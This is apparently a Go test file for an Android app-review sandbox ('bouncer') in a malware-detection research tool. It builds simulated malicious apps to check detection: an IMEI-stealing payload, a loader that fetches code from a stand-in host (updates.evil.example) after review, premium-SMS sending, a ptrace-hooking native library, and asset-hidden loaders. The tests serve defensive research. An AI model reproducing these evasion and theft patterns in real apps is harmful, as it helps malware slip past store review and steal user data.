package bouncer

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
)

var refs = struct {
	imei, http, urlInit, openConn, getInput, fosInit, fosWrite, fosClose,
	readAll, loaderInit dex.MethodRef
}{
	imei: dex.MethodRef{Class: "android.telephony.TelephonyManager",
		Name: "getDeviceId", Sig: "()Ljava/lang/String;"},
	http: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "write", Sig: "(Ljava/lang/String;)V"},
	urlInit: dex.MethodRef{Class: "java.net.URL", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	openConn: dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
		Sig: "()Ljava/net/URLConnection;"},
	getInput: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "getInputStream", Sig: "()Ljava/io/InputStream;"},
	fosInit: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	fosWrite: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
		Sig: "([B)V"},
	fosClose: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
		Sig: "()V"},
	readAll: dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
		Sig: "()[B"},
	loaderInit: dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
		Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
}

// malwarePayload builds App_M's malicious bytecode.
func malwarePayload(t *testing.T) []byte {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.scm.Stealer", "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(refs.imei, 1).
		MoveResult(2).
		NewInstance(3, "java.net.HttpURLConnection").
		InvokeVirtual(refs.http, 3, 2).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appM packages the malware directly (the rejected submission).
func appM(t *testing.T) []byte {
	t.Helper()
	payload := malwarePayload(t)
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.appm", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.appm.Main", Main: true}}}},
		Dex: payload,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appL fetches App_M's code at runtime (the approved submission).
func appL(t *testing.T, url string) []byte {
	t.Helper()
	pkg := "com.appl"
	dest := android.InternalDir(pkg) + "cache/update.dex"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	m := act.Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.net.URL").
		ConstString(2, url).
		InvokeDirect(refs.urlInit, 1, 2).
		InvokeVirtual(refs.openConn, 1).
		MoveResult(3).
		InvokeVirtual(refs.getInput, 3).
		MoveResult(4).
		IfEqz(4, "skip").
		NewInstance(5, "java.io.FileOutputStream").
		ConstString(6, dest).
		InvokeDirect(refs.fosInit, 5, 6).
		InvokeVirtual(refs.readAll, 4).
		MoveResult(7).
		InvokeVirtual(refs.fosWrite, 5, 7).
		InvokeVirtual(refs.fosClose, 5).
		ConstString(8, android.InternalDir(pkg)+"cache/odex").
		NewInstance(9, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 9, 6, 8, 0, 0).
		Label("skip").
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func trainedClassifier(t *testing.T) *droidnative.Classifier {
	t.Helper()
	df, err := dex.Decode(malwarePayload(t))
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
		t.Fatal(err)
	}
	return &clf
}

func TestBouncerEvasionScenario(t *testing.T) {
	const url = "http://updates.evil.example/update.dex"
	clf := trainedClassifier(t)
	net := netsim.NewNetwork()
	r := &Reviewer{Classifier: clf, Network: net}

	// 1. App_M is rejected by the static scan.
	v, err := r.Review(appM(t))
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("App_M approved")
	}

	// 2. App_L passes review while the server withholds the payload.
	appLBytes := appL(t, url)
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("App_L rejected during review: %s", v.Reason)
	}

	// 3. After release the server serves the malware; a re-review now
	// catches it (the loaded code is scanned), demonstrating the window.
	net.Serve(url, netsim.Payload{Data: malwarePayload(t)})
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("post-release review missed the loaded malware")
	}

	// 4. DyDroid, run post-release, both intercepts the payload and
	// attributes the remote provenance.
	an := core.NewAnalyzer(core.Options{Seed: 1, Classifier: clf, Network: net})
	res, err := an.AnalyzeAPK(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Malware) != 1 {
		t.Fatalf("DyDroid missed the loaded malware: %+v (status %s)", res.Malware, res.Status)
	}
	if urls := res.RemoteURLs(); len(urls) != 1 || urls[0] != url {
		t.Fatalf("remote provenance = %v", urls)
	}
}

func TestBouncerCatchesDynamicBehaviour(t *testing.T) {
	// An app that sends SMS right at launch is caught by the dynamic run
	// even without a classifier hit.
	pkg := "com.smsspam"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "android.telephony.SmsManager").
		ConstString(2, "+900").
		ConstString(3, "PREMIUM").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
			Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3).
		ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("SMS-at-launch app approved")
	}
}

func TestBouncerApprovesBenign(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("com.ok.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.ok", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.ok.Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	r := &Reviewer{Classifier: trainedClassifier(t)}
	before := apk.BuildCalls()
	v, err := r.Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("benign app rejected: %s", v.Reason)
	}
	// The review installs the submitted bytes as given: the whole review,
	// dynamic phase included, builds no archive.
	if builds := apk.BuildCalls() - before; builds != 0 {
		t.Fatalf("review ran apk.Build %d times, want 0", builds)
	}
}

// chathookLib builds a chathook-style native library and a classifier
// trained on it.
func chathookLib(t *testing.T, soname string) ([]byte, *droidnative.Classifier) {
	t.Helper()
	nb := nativebin.NewBuilder(soname, "arm")
	target := nb.CString("com.tencent.mm")
	nb.Symbol("Java_com_mal_Hook_attack").
		MovI(0, 0).
		Svc(nativebin.SysSetuid).
		MovI(0, target).
		Svc(nativebin.SysFindProc).
		Svc(nativebin.SysPtrace).
		Ret()
	lib := nb.Build()
	libBytes, err := nativebin.Encode(lib)
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Chathook ptrace", mail.FromNative(lib)); err != nil {
		t.Fatal(err)
	}
	return libBytes, &clf
}

func TestBouncerRejectsStaticNativeMalware(t *testing.T) {
	// A chathook-style native library packaged in the archive is caught by
	// the static scan of lib/ entries.
	libBytes, clf := chathookLib(t, "libhook.so")
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.nat.mal", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.nat.mal.Main", Main: true}}}},
		NativeLibs: map[string][]byte{"libhook.so": libBytes},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: clf}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "Chathook") {
		t.Fatalf("verdict = %+v", v)
	}
}

func TestStaticScanNamesFirstMatchingLibrary(t *testing.T) {
	// Two packaged libraries both match: every review must name the same
	// one, the first by name, whatever order the map yields them in.
	libBytes, clf := chathookLib(t, "libhook.so")
	a := &apk.APK{
		Manifest:   apk.Manifest{Package: "com.nat.twice", MinSDK: 16},
		NativeLibs: map[string][]byte{"libb.so": libBytes, "liba.so": libBytes},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	r := &Reviewer{Classifier: clf}
	reasons := map[string]int{}
	for i := 0; i < 50; i++ {
		v, err := r.Review(data)
		if err != nil {
			t.Fatal(err)
		}
		reasons[v.Reason]++
	}
	if len(reasons) != 1 {
		t.Fatalf("50 reviews gave %d reasons: %v", len(reasons), reasons)
	}
	for reason := range reasons {
		if !strings.HasPrefix(reason, "static scan: liba.so matches Chathook") {
			t.Fatalf("reason = %q, want it to name liba.so", reason)
		}
	}
}

func TestBouncerRejectsLocallyLoadedMalware(t *testing.T) {
	// Malware hidden in an asset and loaded at launch: the static scan of
	// classes.dex misses it, but the review's dynamic run intercepts the
	// load and classifies the loaded code.
	payload := malwarePayload(t)
	pkg := "com.local.loader"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, android.InternalDir(pkg)+"assets/upd.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, android.InternalDir(pkg)+"cache/upd.dex").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		ConstString(6, android.InternalDir(pkg)+"cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 7, 4, 6, 0, 0).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"upd.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "loaded code matches") {
		t.Fatalf("verdict = %+v", v)
	}
}

func TestReviewUndecodableDexFailsInVM(t *testing.T) {
	// The static scan skips bytecode it cannot decode; the sandbox boot
	// then decodes it again and reports the error.
	data, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: "com.bad.dex", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.bad.dex.Main", Main: true}}}},
		Dex: []byte(dex.Magic + "not bytecode"),
	})
	if err != nil {
		t.Fatal(err)
	}
	_, err = (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err == nil || !strings.Contains(err.Error(), "bouncer: vm: app com.bad.dex:") {
		t.Fatalf("err = %v, want the VM's decode error", err)
	}
}

func TestBouncerRejectsGarbage(t *testing.T) {
	if _, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review([]byte("junk")); err == nil {
		t.Fatal("garbage archive accepted")
	}
}

func TestReviewRecordsMetrics(t *testing.T) {
	reg := metrics.New()
	r := &Reviewer{Classifier: trainedClassifier(t), Metrics: reg}

	// A rejection from the static phase: no dynamic timing recorded.
	if v, err := r.Review(appM(t)); err != nil || v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
	snap := reg.Snapshot()
	if snap.Counters["bouncer.rejected"] != 1 || snap.Counters["bouncer.approved"] != 0 {
		t.Fatalf("counters = %+v", snap.Counters)
	}
	if snap.Stages["bouncer.static"].Count != 1 || snap.Stages["bouncer.review"].Count != 1 {
		t.Fatalf("stages = %+v", snap.Stages)
	}
	if snap.Stages["bouncer.dynamic"].Count != 0 {
		t.Fatal("dynamic phase timed for a static rejection")
	}

	// An approval exercises both phases.
	if v, err := r.Review(appL(t, "http://updates.evil.example/update.dex")); err != nil || !v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
	snap = reg.Snapshot()
	if snap.Counters["bouncer.approved"] != 1 {
		t.Fatalf("counters = %+v", snap.Counters)
	}
	if snap.Stages["bouncer.dynamic"].Count != 1 || snap.Stages["bouncer.review"].Count != 2 {
		t.Fatalf("stages = %+v", snap.Stages)
	}

	// A parse failure counts as an error, not a verdict.
	if _, err := r.Review([]byte("junk")); err == nil {
		t.Fatal("garbage accepted")
	}
	if got := reg.Counter("bouncer.errors"); got != 1 {
		t.Fatalf("bouncer.errors = %d", got)
	}
}

func TestReviewNilMetricsIsFine(t *testing.T) {
	// The registry is optional; a nil one must cost nothing and not panic.
	r := &Reviewer{Classifier: trainedClassifier(t)}
	if v, err := r.Review(appM(t)); err != nil || v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
}
